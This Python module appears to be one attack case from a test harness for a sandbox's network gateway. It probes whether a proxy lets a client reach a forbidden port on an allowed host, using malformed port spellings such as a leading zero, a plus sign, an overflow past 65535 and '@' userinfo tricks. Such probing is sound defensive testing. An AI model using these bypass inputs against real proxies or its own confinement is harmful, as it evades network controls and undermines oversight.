"""Reach other ports of a host that is allowed.

gain: a service beside the one that the policy names
attack: T1571
stopped by: gateway
unconfined: host
seen from outside: yes
also refused by: ENETUNREACH, ECONNREFUSED, EADDRNOTAVAIL, ECONNRESET, EPIPE
"""

import socket

from attacker import Refused, each, first, line


def attempt(world):
    name, good = world["good"]
    port = world["forbidden_there"]

    def ask(spelling):
        with socket.socket() as sock:
            sock.settimeout(3)
            sock.connect(tuple(world["gateway"]))
            target = f"{name}:{spelling}"
            sock.sendall(f"GET http://{target}/{world['token']} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
            answer = sock.recv(4096)
        if b"sink forbidden" in answer:
            return f"reached {target}"
        raise Refused(f"{target}: {line(answer)!r}")

    return first(*each((port, f"0{port}", f"+{port}", port + 65536, f"{good}:{port}", f"{good}@{name}:{port}"), ask))
